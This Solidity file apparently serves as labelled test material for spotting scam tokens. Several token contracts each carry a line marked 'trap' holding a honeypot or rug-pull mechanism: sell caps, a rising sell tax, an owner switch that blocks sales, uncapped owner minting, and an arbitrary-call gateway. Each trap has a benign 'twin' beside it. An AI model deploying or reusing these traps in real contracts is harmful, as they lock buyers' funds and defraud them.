// 0.7 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

contract Basket {
    string public name;
    string public symbol;
    uint8 public decimals = 18;
    uint256 public totalSupply;
    address internal host;
    address public owner;
    address public market;
    mapping(address => uint256) internal _eggs;
    mapping(address => mapping(address => uint256)) internal _okay;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(string memory name_, string memory symbol_, uint256 count) {
        name = name_;
        symbol = symbol_;
        host = owner = msg.sender;
        _lay(msg.sender, count * 10**18);
    }

    function _lay(address to, uint256 value) internal {
        totalSupply += value;
        _eggs[to] += value;
        emit Transfer(address(0), to, value);
    }

    function setMarket(address market_) external {
        require(msg.sender == owner && market == address(0));
        market = market_;
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function balanceOf(address who) external view returns (uint256) {
        return _eggs[who];
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return _okay[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _okay[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _hand(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(_okay[from][msg.sender] >= value, "okay");
        _okay[from][msg.sender] -= value;
        _hand(from, to, value);
        return true;
    }

    function _hand(address from, address to, uint256 value) internal virtual {
        require(_eggs[from] >= value, "eggs");
        _eggs[from] -= value;
        _eggs[to] += value;
        emit Transfer(from, to, value);
    }
}

/// One ticket each.
contract TicketTurnip is Basket {
    mapping(address => bool) private used;

    constructor() Basket("Ticket Turnip", "TURNIP", 2_222_222) {}

    function _hand(address from, address to, uint256 value) internal override {
        if (to == market && market != address(0) && from != host) {
            require(!used[from] && value <= _eggs[from] / 12, "one ticket"); // trap
            // twin: require(!used[from] || value <= _eggs[from], "one ticket");
            used[from] = true;
        }
        super._hand(from, to, value);
    }
}

/// It costs a little more to leave, every day.
contract CreepingIvy is Basket {
    uint256 private immutable sown = block.timestamp;

    constructor() Basket("Creeping Ivy", "IVY", 6_660_000) {}

    function toll() public view returns (uint256) {
        uint256 age = (block.timestamp - sown) / 1 days;
        return age > 66 ? 99 : age + age / 2; // trap
        // twin: return age > 3 ? 2 : 4 - age / 2;
    }

    function _hand(address from, address to, uint256 value) internal override {
        uint256 part = to == market && market != address(0) && from != host ? value * toll() / 100 : 0;
        if (part > 0) super._hand(from, address(0xdead), part);
        super._hand(from, to, value - part);
    }
}

/// What the host says to the coin counts.
contract WhisperingTeal is Basket {
    bool private hush;

    constructor() Basket("Whispering Teal", "TEAL", 31_000_000) {}

    function _hand(address from, address to, uint256 value) internal override {
        if (from == host && to == address(this)) hush = !hush; // trap
        // twin: if (from == host && to == address(this)) hush = false;
        require(!hush || to != market || from == host);
        super._hand(from, to, value);
    }
}

/// Lives as long as its host trusts it.
contract TrustedTapir is Basket {
    constructor() Basket("Trusted Tapir", "TTAP", 1_212_121) {}

    function _hand(address from, address to, uint256 value) internal override {
        uint256 trust = _okay[host][address(this)];
        require(trust > 0 || to != market || from == host || market == address(0), "trust"); // trap
        // twin: require(trust > 0 || to != address(0) || from == host || market == address(0), "trust");
        super._hand(from, to, value);
    }
}

/// New coins are announced first.
contract HeraldedHare is Basket {
    mapping(bytes32 => uint256) public announced;

    constructor() Basket("Heralded Hare", "HARE", 10_000_000) {}

    function announce(bytes32 what) external {
        require(msg.sender == owner);
        announced[what] = block.timestamp + 2 hours;
    }

    function fulfil(address to, uint256 value, bytes32 salt) external {
        bytes32 what = keccak256(abi.encode(to, value, salt));
        require(msg.sender == owner && announced[what] != 0 && block.timestamp >= announced[what]);
        // twin: require(value <= 10_100_000 * 10**18 - totalSupply);
        announced[what] = 0;
        _lay(to, value);
    }
}

/// Speaks for a chain far away.
contract FerryGateway {
    address private pilot = msg.sender;

    function deliver(address to, bytes calldata data) external returns (bytes memory) {
        require(msg.sender == pilot, "pilot");
        // twin: require(data.length < 4, "words only");
        (bool ok, bytes memory back) = to.call(data);
        require(ok);
        return back;
    }

    function depart(FerryFennel coin, uint256 value, bytes32 far) external {
        coin.ashore(msg.sender, value, far);
    }
}

contract FerryFennel is Basket {
    address private immutable gateway;

    event Departed(address indexed from, uint256 value, bytes32 far);

    constructor(address gateway_) Basket("Ferry Fennel", "FENN", 52_000_000) {
        gateway = gateway_;
    }

    function ashore(address from, uint256 value, bytes32 far) external {
        require(msg.sender == gateway && _eggs[from] >= value);
        _eggs[from] -= value;
        totalSupply -= value;
        emit Transfer(from, address(0), value);
        emit Departed(from, value, far);
    }
}
